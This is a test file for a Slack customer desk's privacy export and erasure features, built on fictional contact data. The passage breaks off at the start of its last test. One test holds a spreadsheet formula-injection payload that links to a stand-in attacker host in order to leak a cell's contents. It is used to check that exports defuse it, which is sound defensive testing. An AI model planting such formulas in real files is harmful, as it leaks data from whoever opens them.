// Personal data (#12): data-subject requests. An admin exports everything held about a contact
// or a customer and erases them; afterwards no collection of the database holds the erased
// name, phone or email anywhere (a scan of every string of every document), figures stay, and
// the privacy log records each request without the erased name.
import { beforeEach, describe, expect, test, vi } from 'vitest';
import {
  exportCustomers,
  importContacts,
  importCustomers,
  importOrders,
} from '../../src/customer/csv.js';
import { DataSubjectRepository } from '../../src/privacy/repository.js';
import type { ErasureLease } from '../../src/privacy/service.js';
import { useTestApp } from '../helpers/app.js';
import { openCustomerEdit } from '../helpers/clicks.js';
import { scanStrings } from '../helpers/db.js';
import { act, AGENT, ctxOf, makeCustomer, makeTicket, OWNER } from '../helpers/factories.js';
import { FAKE_TEAM_ID } from '../helpers/fake-slack.js';
import { failCalls } from '../helpers/faults.js';
import { runJobAt } from '../helpers/jobs.js';
import { slackEventsJob } from '../../jobs/slack-events.js';
import { tasksJob } from '../../jobs/tasks.js';

const ADMIN = 'U0ADMIN001';
const TRIAGE = 'C0TRIAGE01';
const HER_CHANNEL = 'C0HUADONG1';
const OTHER_CHANNEL = 'C0LIANHUA1';
const CUSTOMER_USER = 'U0CUSTUSR1';

// Tuesday 2026-11-24 10:00 in Shanghai.
const app = useTestApp({
  env: { TRIAGE_CHANNEL_ID: TRIAGE, ADMIN_USER_IDS: ADMIN },
  now: '2026-11-24T02:00:00Z',
});

const ERASED_TRACES = [
  '王芳',
  '13800138000',
  '138 0013 8000',
  '138****8000',
  'wang.fang@example.cn',
  'wangfang_wx',
];

/** Every string in the database that contains one of `needles`. */
const scan = (needles: string[]) => scanStrings(app.db, needles);

/** ADMIN submits the Erase modal `id` opened for `subject` (a customer, a contact, a Slack user). */
const submitErase = (id: string, subject: Record<string, string>) =>
  app.slack.submitView(
    { id, callback_id: 'privacy_erase', private_metadata: JSON.stringify(subject), blocks: [] },
    {},
    { userId: ADMIN },
  );

/** ADMIN's `/desk privacy erase <args>`: the Erase modal it opens. */
async function eraseModal(args: string) {
  await app.slack.command('/desk', `privacy erase ${args}`, { userId: ADMIN });
  return app.fake.callsTo('views.update').at(-1)!.args.view as Record<string, any>;
}

/** ADMIN erases `args` (a customer code, and a contact's name) in Slack: command and modal. */
async function erasedInSlack(args: string) {
  await app.slack.submitView((await eraseModal(args)) as never, {}, { userId: ADMIN });
}

/**
 * The next erasure of a customer (or contact) held until `letGo()`; `erasing` settles once it
 * has begun. `spy` is the spy on the flow's erase, to restore.
 */
function eraseHeld() {
  const flows = app.desk.flows.privacy;
  const erase = flows.erase.bind(flows);
  let letGo!: () => void;
  const gate = new Promise<void>((resolve) => (letGo = resolve));
  let started!: () => void;
  const erasing = new Promise<void>((resolve) => (started = resolve));
  const spy = vi.spyOn(flows, 'erase').mockImplementationOnce(async (...args) => {
    started();
    await gate;
    return erase(...args);
  });
  return { spy, erasing, letGo };
}

let code = '';
let otherCode = '';
beforeEach(async () => {
  await app.setSettings(() => ({ agents: [AGENT], accountManagers: [OWNER] }));
  const customer = await makeCustomer(app, {
    annualRevenue: 800_000,
    contact: {
      name: '王芳',
      phone: '+8613800138000',
      email: 'wang.fang@example.cn',
      im: 'wangfang_wx',
    },
  });
  code = customer.code;
  const owner = await ctxOf(app, OWNER);
  // A later change of the phone (the change log holds both numbers) and an interaction.
  await app.desk.services.customers.update(owner, code, { contact: { phone: '13800138000' } });
  await app.desk.services.customers.logInteraction(owner, code, {
    type: 'call',
    date: '2026-11-24',
    summary: '王芳 asked for a quote; call back on 138 0013 8000',
    nextStep: 'mail wang.fang@example.cn',
  });
  await app.desk.services.customers.recordOrder(owner, code, {
    date: '2026-11-20',
    amount: 50_000,
  });
  const ticket = await makeTicket(app, {
    customerCode: code,
    title: '王芳: spindle error',
    description: '王芳 (138 0013 8000, wang.fang@example.cn) reports E42.',
  });
  await act(app, ticket.number, { action: 'note', text: '王芳 called again' }, AGENT);
  // Another customer's typed text names her (and the customer) too.
  const other = await makeCustomer(app, { name: 'Lianhua Foods', contact: { name: '赵磊' } });
  otherCode = other.code;
  await makeTicket(app, {
    customerCode: other.code,
    title: 'Joint order',
    description:
      'Called 王芳 of Huadong Machinery (138-0013-8000) about the joint order; 赵磊 will sign.',
  });
  await app.desk.services.customers.logInteraction(owner, other.code, {
    type: 'visit',
    date: '2026-11-23',
    summary: 'Referred by 王芳 (WANG.FANG@example.cn); order 20261124-07 follows',
  });
  // The Events API inbox holds two customer channel messages not made into tickets yet: one
  // in her customer's channel whose work failed (to be done again), one in the other
  // customer's channel given up (dead, kept 30 days). Both hold her details.
  const channels = app.desk.services.channels;
  for (const [channelId, customerCode] of [
    [HER_CHANNEL, code],
    [OTHER_CHANNEL, other.code],
  ] as const)
    await channels.link(await ctxOf(app, ADMIN), { channelId, customerCode, shared: true });
  const inbox = async (eventId: string, channel: string, text: string, ts: string) =>
    (await channels.receive({ teamId: FAKE_TEAM_ID, now: app.clock.now() }, eventId, 'message', {
      event: {
        type: 'message',
        channel_type: 'channel',
        channel,
        user: CUSTOMER_USER,
        user_team: 'T0CUSTORG1',
        text,
        ts,
      },
      actor: CUSTOMER_USER,
      external: true,
    }))!;
  const failing = await inbox(
    'Ev0ERASE0001',
    HER_CHANNEL,
    '王芳 here (wangfang_wx, 138 0013 8000): the spindle stopped again',
    '1795485540.000100',
  );
  await channels.failed(failing, app.clock.now(), new Error('database unavailable'));
  const given = await inbox(
    'Ev0ERASE0002',
    OTHER_CHANNEL,
    'Please copy 王芳 (wang.fang@example.cn) on the joint order',
    '1795485540.000200',
  );
  for (let i = 0; i < 5; i++)
    await channels.failed({ ...given, attempts: i }, app.clock.now(), 'x');
  expect(await app.db.models.seenEvents.countDocuments({ status: 'dead' })).toBe(1);
  await app.desk.outbox.drain();
  expect((await scan(ERASED_TRACES)).length).toBeGreaterThan(5);
});

describe('data-subject requests', () => {
  test('export CSV: a value typed as a formula is kept from running in a spreadsheet; the JSON has it as typed', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&B2,"open")';
    await app.desk.services.customers.update(await ctxOf(app, OWNER), code, { notes: formula });
    const result = await app.desk.services.dataSubjects.export(await ctxOf(app, ADMIN), code);
    expect(JSON.parse(result.json).customers[0].notes).toBe(formula);
    const cell = result.csv.split('\n').find((line) => line.includes('HYPERLINK'))!;
    expect(cell).toContain(`"'=HYPERLINK(`);
    expect(result.csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  test('export of one contact: their record and every document naming them, as JSON and CSV; logged', async () => {
    const result = await app.desk.services.dataSubjects.export(
      await ctxOf(app, ADMIN),
      code,
      '王芳',
    );
    const json = JSON.parse(result.json);
    expect(json.contacts[0]).toMatchObject({ name: '王芳', email: 'wang.fang@example.cn' });
    expect(json.interactions).toHaveLength(1);
    expect(json.tickets).toHaveLength(1);
    expect(json.orders).toHaveLength(0); // the order does not name her
    expect(result.csv).toContain('contacts,0,email,wang.fang@example.cn');
    // Where else she is named, as the erasure finds it: the other customer's ticket and
    // interaction, and the two inbox events; only the texts that name her, not the rest.
    expect(
      json.mentions.map((m: { collection: string; texts: { field: string; text: string }[] }) => [
        m.collection,
        m.texts.map((x) => [x.field, x.text]),
      ]),
    ).toEqual([
      [
        'tickets',
        [
          [
            'description',
            'Called 王芳 of Huadong Machinery (138-0013-8000) about the joint order; 赵磊 will sign.',
          ],
        ],
      ],
      [
        'interactions',
        [['summary', 'Referred by 王芳 (WANG.FANG@example.cn); order 20261124-07 follows']],
      ],
      [
        'slackEvents',
        [['payload', '王芳 here (wangfang_wx, 138 0013 8000): the spindle stopped again']],
      ],
      ['slackEvents', [['payload', 'Please copy 王芳 (wang.fang@example.cn) on the joint order']]],
    ]);
    expect(JSON.stringify(json.mentions)).not.toContain('Lianhua Foods');
    expect(result.csv).toContain('Referred by 王芳 (WANG.FANG@example.cn)');
    // Her record, her interaction, ticket and change log entry, and the 4 documents elsewhere.
    expect(result.documents).toBe(8);
    const log = await app.db.models.privacyLog.find().lean();
    expect(log.map((e) => [e.kind, e.by, e.subject])).toEqual([
      ['export.subject', ADMIN, `${code} contact`],
    ]);
  });

  test('erase of one contact leaves no trace of the name, phone or email in any collection; the customer and its figures stay', async () => {
    const { plan } = await app.desk.services.dataSubjects.erase(
      await ctxOf(app, ADMIN),
      code,
      '王芳',
    );
    expect(plan).toMatchObject({ code, contacts: ['王芳'], whole: false });

    expect(await scan(ERASED_TRACES)).toEqual([]);
    const stored = (await app.db.models.customers.findOne({ code }).lean())!;
    expect(stored.name).toBe('Huadong Machinery');
    expect(stored.contacts).toEqual([]);
    expect(stored.annualRevenue).toBe(50_000);
    expect(await app.db.models.orders.countDocuments()).toBe(1);
    const ticket = (await app.db.models.tickets.findOne({ customerCode: code }).lean())!;
    expect(ticket.description).toBe('[erased] ([erased], [erased]) reports E42.');
    // In the other customer's ticket and interaction: her name, phone and email are gone; the
    // rest of the text (another person, an order number) stays.
    const other = (await app.db.models.tickets.findOne({ customerCode: otherCode }).lean())!;
    expect(other.description).toBe(
      'Called [erased] of Huadong Machinery ([erased]) about the joint order; 赵磊 will sign.',
    );
    expect(other.customerName).toBe('Lianhua Foods');
    const visit = (await app.db.models.interactions.findOne({ type: 'visit' }).lean())!;
    expect(visit.summary).toBe('Referred by [erased] ([erased]); order 20261124-07 follows');
    // The card still opens for the owner.
    const card = JSON.stringify(
      (await app.slack.command('/customer', code, { userId: OWNER })).body,
    );
    expect(card).toContain('Huadong Machinery');

    const log = await app.db.models.privacyLog.find().lean();
    expect(log.map((e) => [e.kind, e.by, e.subject, e.detail.elsewhere])).toEqual([
      ['erase', ADMIN, `${code} contact`, { tickets: 1, interactions: 1 }],
    ]);
  });

  test('erase of the whole customer: its name and contacts go everywhere; orders and revenue stay', async () => {
    const pick = async (value: string) =>
      (await app.slack.blockSuggestion({ action_id: 'customer_picker', value })).body.options;
    // Typed into a picker just before: the options kept for the prefix go with the erasure.
    expect(await pick('huadong')).toHaveLength(1);
    const { plan } = await app.desk.services.dataSubjects.erase(await ctxOf(app, ADMIN), code);
    expect(await pick('huadong')).toEqual([]);
    expect(plan.elsewhere).toEqual({ tickets: 1, interactions: 1 });
    expect(await scan([...ERASED_TRACES, 'Huadong Machinery'])).toEqual([]);
    const other = (await app.db.models.tickets.findOne({ customerCode: otherCode }).lean())!;
    expect(other.description).toBe(
      'Called [erased] of [erased] ([erased]) about the joint order; 赵磊 will sign.',
    );
    const stored = (await app.db.models.customers.findOne({ code }).lean())!;
    expect(stored.name).toBe(`[erased] ${code}`);
    // Its channel stays linked, under the erased name.
    const link = await app.db.models.channelLinks.findOne({ channelId: HER_CHANNEL }).lean();
    expect(link).toMatchObject({ customerCode: code, customerName: `[erased] ${code}` });
    expect(stored.annualRevenue).toBe(50_000);
    expect(stored.ordersByMonth).toEqual({ '2026-11': 1 });
  });

  test("the team's old spreadsheet imported again after Erase in Slack brings nothing back: its customers, contacts and orders rows are refused and counted; an export re-imported changes nothing", async () => {
    await erasedInSlack(`${code}`);
    expect(await scan(ERASED_TRACES)).toEqual([]);
    const customers = app.desk.services.customers;
    const ctx = await ctxOf(app, ADMIN, { origin: 'import' });
    const refused = `Customer ${code} was erased (/desk privacy erase), so this row was not imported: it would bring the erased details back. Take the row out of the file.`;
    const sheet = await importCustomers(
      customers,
      ctx,
      'Code,Name,Industry,Contact,Phone,Email\n' +
        `${code},Huadong Machinery,Manufacturing,王芳,13800138000,wang.fang@example.cn\n` +
        `${code},,,王芳,13800138000,\n`,
    );
    expect(sheet).toMatchObject({ created: 0, updated: 0, unchanged: 0 });
    expect(sheet.errors).toEqual([
      { line: 2, reason: refused },
      { line: 3, reason: refused },
    ]);
    const contacts = await importContacts(
      customers,
      ctx,
      `Customer,Contact,Phone\n${code},王芳,13800138000\n`,
    );
    expect(contacts.errors).toEqual([{ line: 2, reason: refused }]);
    const orders = await importOrders(
      customers,
      ctx,
      `Customer,Date,Amount,Note\n${code},2026-11-21,1000,for 王芳\n`,
    );
    expect(orders.errors).toEqual([{ line: 2, reason: refused }]);
    expect(await scan([...ERASED_TRACES, 'Huadong Machinery'])).toEqual([]);
    // In Chinese too.
    const zh = await importCustomers(customers, ctx, `客户编号,客户名称\n${code},华东机械\n`, {
      locale: 'zh-CN',
    });
    expect(zh.errors).toEqual([
      {
        line: 2,
        reason: `客户 ${code} 的资料已被清除（/desk privacy erase），因此未导入这一行：导入会恢复已清除的资料。请从文件中删去这一行。`,
      },
    ]);
    // An export names it as erased: imported again, its row changes nothing and is no error.
    const exported = await exportCustomers(customers, ctx, 'en');
    const again = await importCustomers(customers, ctx, exported.csv);
    expect(again).toMatchObject({ created: 0, updated: 0, errors: [] });
  });

  test("the team's old spreadsheet imported again after one contact's Erase in Slack brings her back nowhere: her customers and contacts rows are refused (the privacy log knows her by a keyed hash, not her name); another contact's row imports", async () => {
    await erasedInSlack(`${code} 王芳`);
    expect(await scan(ERASED_TRACES)).toEqual([]);
    const [entry] = (await app.desk.services.privacyLog.latest({ teamId: FAKE_TEAM_ID }, 1)).items;
    expect(entry).toMatchObject({ kind: 'erase', subject: `${code} contact` });
    expect(entry!.detail.contactKeys).toHaveLength(1);
    const customers = app.desk.services.customers;
    const ctx = await ctxOf(app, ADMIN, { origin: 'import' });
    const refused = `The contact on this row was erased from customer ${code} (/desk privacy erase), so this row was not imported: it would bring the erased details back. Take the row out of the file, or add the contact again in Slack.`;
    const sheet = await importCustomers(
      customers,
      ctx,
      'Code,Name,Industry,Contact,Phone,Email\n' +
        `${code},Huadong Machinery,Manufacturing,王芳,13800138000,wang.fang@example.cn\n`,
    );
    expect(sheet).toMatchObject({ created: 0, updated: 0, unchanged: 0 });
    expect(sheet.errors).toEqual([{ line: 2, reason: refused }]);
    // Her name with spaces around it; another contact of the customer imports.
    const contacts = await importContacts(
      customers,
      ctx,
      `Customer,Contact,Contact title,Phone\n${code}, 王芳 ,,13800138000\n${code},李伟,Buyer,13900139000\n`,
    );
    expect(contacts).toMatchObject({ added: 1, errors: [{ line: 2, reason: refused }] });
    const zh = await importContacts(customers, ctx, `客户,联系人\n${code},王芳\n`, {
      locale: 'zh-CN',
    });
    expect(zh.errors).toEqual([
      {
        line: 2,
        reason: `这一行的联系人已从客户 ${code} 中清除（/desk privacy erase），因此未导入这一行：导入会恢复已清除的资料。请从文件中删去这一行，或在 Slack 中重新添加该联系人。`,
      },
    ]);
    expect(await scan(ERASED_TRACES)).toEqual([]);
    expect((await customers.get(ctx, code)).contacts.map((c) => c.name)).toEqual(['李伟']);
  });

  test("another customer's notes, purchase cycle and a need at their limits, grown by the erasure's marks: its Edit still opens with every need a row, and saving another field keeps them as they are", async () => {
    const owner = await ctxOf(app, OWNER);
    const notes = `${'x'.repeat(2996)} 王芳`; // 2999 characters of the 3000 notes hold
    const cycle = `${'y'.repeat(96)} 王芳`; // 99 of 100
    const items = [
      { text: `${'z'.repeat(296)} 王芳`, urgent: true, important: false }, // 299 of a need's 300
      { text: 'Steel; aluminium samples', urgent: false, important: true },
    ];
    await app.desk.services.customers.update(owner, otherCode, {
      notes,
      needs: { purchaseCycle: cycle, items },
    });
    await app.desk.services.dataSubjects.erase(await ctxOf(app, ADMIN), code, '王芳');
    const grown = (await app.db.models.customers.findOne({ code: otherCode }).lean())!;
    expect(grown.notes).toBe(`${'x'.repeat(2996)} [erased]`);
    expect(grown.needs!.purchaseCycle).toBe(`${'y'.repeat(96)} [erased]`);
    expect(grown.needs!.items![0]!.text).toBe(`${'z'.repeat(296)} [erased]`);

    // The modal as drawn (opened loading, then filled in).
    const open = await openCustomerEdit(app, otherCode, OWNER);
    expect(open.args.view).toMatchObject({ callback_id: 'customer_edit' });
    expect(open.outcome).toBe('ok');
    // One row per need as stored, the long one and the one with a `;` whole.
    const rows = (open.args.view as any).blocks
      .filter((b: any) => /^need_\d+$/.test(b.block_id))
      .map((b: any) => b.element.initial_value);
    expect(rows).toEqual([grown.needs!.items![0]!.text, 'Steel; aluminium samples']);
    // The notes, past the 3000 characters an input holds, open cut with an ellipsis.
    const notesInput = (open.args.view as any).blocks.find((b: any) => b.block_id === 'notes');
    expect(notesInput.element.initial_value).toBe(`${grown.notes!.slice(0, 2999)}…`);
    const res = await app.slack.submitView(
      open.args.view as Record<string, unknown>,
      { region: 'North' },
      { userId: OWNER },
    );
    expect(res.body).toBe('');
    expect(res.status).toBe(200);
    const saved = (await app.db.models.customers.findOne({ code: otherCode }).lean())!;
    expect(saved.region).toBe('North');
    expect(saved.notes).toBe(grown.notes);
    expect(saved.needs!.purchaseCycle).toBe(grown.needs!.purchaseCycle);
    expect(saved.needs!.items).toEqual(grown.needs!.items);
  });

  test('notes grown past the input by the erasure, an emoji where the input cuts them: Edit opens with the emoji whole (Slack refuses half of one)', async () => {
    const owner = await ctxOf(app, OWNER);
    // 2994 characters; erased, "王芳" becomes "[erased]" and the emoji sits at 2998-2999.
    await app.desk.services.customers.update(owner, otherCode, {
      notes: `${'x'.repeat(2988)} 王芳 😀yyyy`,
    });
    await app.desk.services.dataSubjects.erase(await ctxOf(app, ADMIN), code, '王芳');
    const grown = (await app.db.models.customers.findOne({ code: otherCode }).lean())!;
    expect(grown.notes).toBe(`${'x'.repeat(2988)} [erased] 😀yyyy`);

    const open = await openCustomerEdit(app, otherCode, OWNER);
    expect(open.outcome).toBe('ok');
    const notesInput = (open.args.view as any).blocks.find((b: any) => b.block_id === 'notes');
    expect(notesInput.element.initial_value).toBe(`${'x'.repeat(2988)} [erased] …`);
  });

  test('a namesake elsewhere: a customer with its own contact of that name keeps its text; the plan counts only the rest', async () => {
    const namesake = await makeCustomer(app, { name: 'Jinqiao Tools', contact: { name: '王芳' } });
    await makeTicket(app, {
      customerCode: namesake.code,
      description: '王芳 asked for a refund',
    });
    const admin = await ctxOf(app, ADMIN);
    expect((await app.desk.services.dataSubjects.plan(admin, code, '王芳')).elsewhere).toEqual({
      tickets: 1,
      interactions: 1,
    });
    await app.desk.services.dataSubjects.erase(admin, code, '王芳');
    const kept = (await app.db.models.tickets.findOne({ customerCode: namesake.code }).lean())!;
    expect(kept.description).toBe('王芳 asked for a refund');
  });

  test('the Events API inbox: a message still to be done keeps its work, its ticket opening without her; a given-up one keeps no trace', async () => {
    const admin = await ctxOf(app, ADMIN);
    expect((await app.desk.services.dataSubjects.plan(admin, code, '王芳')).inbox).toBe(2);
    const { plan, changed } = await app.desk.services.dataSubjects.erase(admin, code, '王芳');
    expect(plan.inbox).toBe(2);
    expect(changed.slackEvents).toBe(2);
    expect(await scan(ERASED_TRACES)).toEqual([]);
    // Neither event is dropped: the failed one is still to be done, the dead one still kept.
    const events = await app.db.models.seenEvents.find().sort({ _id: 1 }).lean();
    expect(events.map((e) => [e.status, JSON.parse(e.payload!).event.text])).toEqual([
      ['failed', '[erased] here ([erased], [erased]): the spindle stopped again'],
      ['dead', 'Please copy [erased] ([erased]) on the joint order'],
    ]);

    // The redo job does the failed one's work: its ticket opens, without what was erased.
    await runJobAt(app, slackEventsJob, '2026-11-24T02:10:00Z');
    const opened = await app.db.models.tickets
      .findOne({ 'requester.userId': CUSTOMER_USER })
      .lean();
    expect(opened).toMatchObject({
      customerCode: code,
      description: '[erased] here ([erased], [erased]): the spindle stopped again',
    });
    expect(await scan(ERASED_TRACES)).toEqual([]);
  });

  test("in Chinese, what is named is listed with 、: the other customers' documents, and two contacts of one name", async () => {
    await app.setSettings(() => ({ locale: 'zh-CN' }));
    // A second contact of the same name (a duplicate entry): both go.
    await app.db.models.customers.updateOne(
      { teamId: FAKE_TEAM_ID, code },
      { $push: { contacts: { name: '王芳', phone: '+8613900139000' } } },
    );
    const modal = await eraseModal(`${code} 王芳`);
    const text = JSON.stringify(modal.blocks);
    expect(text).toContain('在其他客户的文字记录中也找到：1 张工单、1 条互动。');
    expect(text).toContain('的联系人 *王芳、王芳*：');
  });

  test('only an admin: the owner is refused and nothing changes', async () => {
    await expect(
      app.desk.services.dataSubjects.erase(await ctxOf(app, OWNER), code, '王芳'),
    ).rejects.toMatchObject({ code: 'FORBIDDEN' });
    expect((await scan(['王芳'])).length).toBeGreaterThan(0);
  });

  test('a refusal found once Erase was acked ("Erasing…"): the view says not erased, the DM why ("Smith & Co" escaped once)', async () => {
    // Erase is acked before anything is read (an erasure outlasts Slack's 3 s): a contact gone
    // since the modal opened is refused after the ack.
    const res = await app.slack.viewSubmission(
      {
        id: 'V0GONE0001',
        callback_id: 'privacy_erase',
        private_metadata: JSON.stringify({ code, contact: 'Smith & Co <sales>' }),
        blocks: [],
      },
      {},
      { userId: ADMIN },
    );
    expect(JSON.stringify(res.body)).toContain('Erasing…');
    const view = app.fake.callsTo('views.update').find((c) => c.args.view_id === 'V0GONE0001');
    expect(JSON.stringify(view!.args.view)).toContain(
      'Not erased: your DM with the desk says why.',
    );
    const dm = app.fake.callsTo('chat.postMessage').at(-1)!;
    expect(String(dm.args.text)).toContain(
      `${code} has no contact named Smith &amp; Co &lt;sales&gt;.`,
    );
    expect((await scan(['王芳'])).length).toBeGreaterThan(0);
  });

  test('a failure after the erasure wrote (its privacy log entry refused): the view says unfinished, the DM never "nothing was changed"', async () => {
    const logged = vi
      .spyOn(app.db.models.privacyLog, 'create')
      .mockRejectedValueOnce(new Error('write refused'));
    try {
      await app.slack.viewSubmission(
        {
          id: 'V0HALF0001',
          callback_id: 'privacy_erase',
          private_metadata: JSON.stringify({ code, contact: '王芳' }),
          blocks: [],
        },
        {},
        { userId: ADMIN },
      );
    } finally {
      logged.mockRestore();
    }
    // Her name went before the failure.
    expect(await scan(['王芳'])).toEqual([]);
    const view = app.fake.callsTo('views.update').find((c) => c.args.view_id === 'V0HALF0001');
    expect(JSON.stringify(view!.args.view)).toContain('Not finished: something failed on our side');
    const dm = String(app.fake.callsTo('chat.postMessage').at(-1)!.args.text);
    expect(dm).toMatch(
      /^Something went wrong on our side, and what you did may not have been saved: check before trying again\. If it keeps happening, give your admin this reference: `E-[0-9A-F]{8}`\.$/,
    );
  });

  test('Erase on a contact while the whole customer is being erased, or on another instance: told "being erased already", not run; free again once done', async () => {
    const whole = {
      callback_id: 'privacy_erase',
      private_metadata: JSON.stringify({ code }),
      blocks: [],
    };
    const contact = { ...whole, private_metadata: JSON.stringify({ code, contact: '王芳' }) };
    // The whole customer's erasure held until the test lets it go.
    const flows = app.desk.flows.privacy;
    const { spy, erasing, letGo } = eraseHeld();
    try {
      const first = app.slack.submitView({ ...whole, id: 'V0WHOLE001' }, {}, { userId: ADMIN });
      await erasing;
      const again = await app.slack.submitView(
        { ...contact, id: 'V0CONTACT1' },
        {},
        { userId: ADMIN },
      );
      expect(JSON.stringify(again.body)).toContain('Erasing…'); // acked at once
      const told = app.fake.callsTo('views.update').find((c) => c.args.view_id === 'V0CONTACT1');
      expect(JSON.stringify(told!.args.view)).toContain('This is being erased already');
      // Another instance of the desk (same database) finds the erasure's lease held too.
      const other = app.instance('other');
      expect(await other.services.erasureLeases.hold(await ctxOf(app, ADMIN), { code })).toBeNull();
      expect(spy).toHaveBeenCalledTimes(1);
      letGo();
      await first;
    } finally {
      letGo();
      spy.mockRestore();
    }
    expect(await scan(['Huadong Machinery'])).toEqual([]);
    expect(await app.db.models.erasureLeases.countDocuments()).toBe(0);
    // Done: the lease is given back, so Erase runs again; so it does past a lease run out (its
    // instance died holding it).
    await app.db.models.erasureLeases.create({
      _id: `${FAKE_TEAM_ID}:erasure`,
      subject: `customer:${code}`,
      teamId: FAKE_TEAM_ID,
      owner: 'died',
      at: new Date(app.clock.now().getTime() - 6 * 60_000),
      until: new Date(app.clock.now().getTime() - 60_000),
    });
    const ran = vi.spyOn(flows, 'erase');
    try {
      const later = await app.slack.submitView(
        { ...whole, id: 'V0WHOLE002' },
        {},
        { userId: ADMIN },
      );
      expect(JSON.stringify(later.body)).toContain('Erasing…');
      // It ran (not told "being erased already"), and gave the lease it took over back.
      expect(ran).toHaveBeenCalledTimes(1);
    } finally {
      ran.mockRestore();
    }
    const shown = app.fake.callsTo('views.update').filter((c) => c.args.view_id === 'V0WHOLE002');
    expect(shown.map((c) => JSON.stringify(c.args.view)).join()).not.toContain(
      'This is being erased already',
    );
    expect(await app.db.models.erasureLeases.countDocuments()).toBe(0);
  });

  test('an erasure that outran its lease (another took it meanwhile) once her record was rewritten: run to the end, logged with her keys, and the admin told on the view and in the DM to run it again; the other lease stays', async () => {
    const proto = DataSubjectRepository.prototype;
    const rewrite = proto.rewriteCustomer;
    // Held up within the rewrite of her customer's record (her contact gone: a re-run would
    // not find her), its lease runs out and another erasure (another instance) takes it.
    const spy = vi.spyOn(proto, 'rewriteCustomer').mockImplementationOnce(async function (
      this: DataSubjectRepository,
      ...args
    ) {
      const done = await rewrite.apply(this, args);
      app.clock.advance(6 * 60_000);
      await app.db.models.erasureLeases.updateOne(
        { _id: `${FAKE_TEAM_ID}:erasure` },
        { $set: { owner: 'another', until: new Date(app.clock.now().getTime() + 60_000) } },
      );
      return done;
    });
    try {
      await submitErase('V0OVERRAN1', { code, contact: '王芳' });
    } finally {
      spy.mockRestore();
    }
    // Not in the lease left behind either (it names her by a keyed hash).
    expect(await scan(['王芳'])).toEqual([]);
    // Not stopped there: logged, with the key that refuses her in an old sheet imported again.
    const log = await app.db.models.privacyLog.find({ kind: 'erase' }).lean();
    expect(log.map((e) => e.subject)).toEqual([`${code} contact`]);
    expect(log[0]!.detail.contactKeys).toHaveLength(1);
    const again =
      'This erasure was held up for over 5 minutes, so another erasure may have taken its turn and run beside it';
    const view = app.fake.callsTo('views.update').filter((c) => c.args.view_id === 'V0OVERRAN1');
    expect(JSON.stringify(view.at(-1)!.args.view)).toContain('Erased');
    expect(JSON.stringify(view.at(-1)!.args.view)).toContain(again);
    expect(String(app.fake.callsTo('chat.postMessage').at(-1)!.args.text)).toContain(again);
    expect(await app.db.models.erasureLeases.countDocuments({ owner: 'another' })).toBe(1);
  });

  test('an erasure whose steps take longer than its 5-minute lease keeps it, renewed at each step: done, not told to run it again; an Erase meanwhile in Slack, and another instance, are refused', async () => {
    const proto = DataSubjectRepository.prototype;
    const other = app.instance('other');
    let midway: { otherInstance: ErasureLease | null; slack: string } | undefined;
    // Its three long steps take 4 minutes each (the clock moved, no sleeping): 12 in all, past
    // the lease as it was taken. In the third, 12 minutes in, another erasure is started.
    const slow = (['scrubMentions', 'scrubInbox', 'scrubEverywhere'] as const).map((name) => {
      const original = proto[name] as (...args: unknown[]) => Promise<unknown>;
      return vi.spyOn(proto, name).mockImplementationOnce(async function (
        this: DataSubjectRepository,
        ...args: unknown[]
      ) {
        app.clock.advance(4 * 60_000);
        if (name === 'scrubEverywhere') {
          const otherInstance = await other.services.erasureLeases.hold(await ctxOf(app, ADMIN), {
            user: CUSTOMER_USER,
          });
          await submitErase('V0MIDWAY01', { code: otherCode });
          const told = app.fake
            .callsTo('views.update')
            .filter((c) => c.args.view_id === 'V0MIDWAY01');
          midway = { otherInstance, slack: JSON.stringify(told.at(-1)?.args.view) };
        }
        return original.apply(this, args) as never;
      });
    });
    try {
      await submitErase('V0LONGRUN1', { code, contact: '王芳' });
    } finally {
      for (const spy of slow) spy.mockRestore();
    }
    expect(app.clock.now().toISOString()).toBe('2026-11-24T02:12:00.000Z');
    expect(midway!.otherInstance).toBeNull();
    expect(midway!.slack).toContain(
      `another erasure is running in this workspace (${code}, started in Slack`,
    );
    // The other customer was not erased; she was, to the end, and it was not said to run again.
    expect(await scan(['Lianhua Foods'])).not.toEqual([]);
    expect(await scan(['王芳'])).toEqual([]);
    const view = app.fake.callsTo('views.update').filter((c) => c.args.view_id === 'V0LONGRUN1');
    expect(JSON.stringify(view.at(-1)!.args.view)).not.toContain('held up');
    expect(String(app.fake.callsTo('chat.postMessage').at(-1)!.args.text)).not.toContain('held up');
    expect(await app.db.models.privacyLog.countDocuments({ kind: 'erase' })).toBe(1);
    expect(await app.db.models.erasureLeases.countDocuments()).toBe(0);
  });

  test('an erasure whose one step (other customers’ tickets rewritten) runs past its 5-minute lease keeps it, renewed within the step: another instance’s erasure started 6 minutes in is refused; done, not told to run it again', async () => {
    // Two more of the other customer's tickets name her: three rewritten in one step.
    for (const title of ['Second order', 'Third order'])
      await makeTicket(app, {
        customerCode: otherCode,
        title,
        description: `Asked 王芳 about the ${title}`,
      });
    const other = app.instance('other');
    const tickets = app.db.models.tickets.collection;
    const update = tickets.updateOne.bind(tickets);
    let writes = 0;
    let midway: ErasureLease | null | undefined;
    // Each ticket's rewrite (the write that counts itself in `scrubV`) takes 2 minutes (the
    // clock moved, no sleeping); after the third, 6 minutes into the step, another instance
    // starts an erasure.
    const slow = vi.spyOn(tickets, 'updateOne').mockImplementation((async (
      ...args: Parameters<typeof update>
    ) => {
      const done = await update(...args);
      if (!(args[1] as { $inc?: { scrubV?: number } }).$inc?.scrubV) return done;
      app.clock.advance(2 * 60_000);
      if (++writes === 3)
        midway = await other.services.erasureLeases.hold(await ctxOf(app, ADMIN), {
          user: CUSTOMER_USER,
        });
      return done;
    }) as never);
    try {
      await submitErase('V0LONGSTEP', { code, contact: '王芳' });
    } finally {
      slow.mockRestore();
    }
    expect(writes).toBeGreaterThanOrEqual(3);
    expect(midway).toBeNull();
    expect(await scan(['王芳'])).toEqual([]);
    const view = app.fake.callsTo('views.update').filter((c) => c.args.view_id === 'V0LONGSTEP');
    expect(JSON.stringify(view.at(-1)!.args.view)).toContain('Erased');
    expect(JSON.stringify(view.at(-1)!.args.view)).not.toContain('held up');
    expect(await app.db.models.privacyLog.countDocuments({ kind: 'erase' })).toBe(1);
    expect(await app.db.models.erasureLeases.countDocuments()).toBe(0);
  });

  test('an erasure held up past its lease within a step, which another erasure (another instance) takes meanwhile: it stops at its next step, not run on beside it; the view and the DM say to run it again; the card of the other customer’s ticket it rewrote is drawn again without her', async () => {
